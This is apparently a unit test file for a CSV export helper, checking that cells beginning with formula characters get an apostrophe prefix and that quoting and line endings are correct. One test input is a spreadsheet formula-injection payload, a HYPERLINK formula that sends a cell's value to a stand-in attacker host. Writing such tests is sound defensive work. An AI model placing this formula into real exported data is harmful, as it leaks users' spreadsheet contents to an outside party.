import { csvCell, csvLine } from './csv.js';

describe('csvCell', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\tx',
    '\rx',
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  ])('defuses the formula prefix of %j', (text) => {
    const cell = csvCell(text);
    expect(cell.replace(/^"/, '').startsWith("'")).toBe(true);
  });

  it('keeps numbers, negative ones included, as numbers', () => {
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell(0)).toBe('0');
  });

  it('quotes separators, quotes and line breaks', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(null)).toBe('');
  });

  it('ends a record with CRLF', () => {
    expect(csvLine(['a', 1, '=x'])).toBe('a,1,"\'=x"\r\n');
  });
});
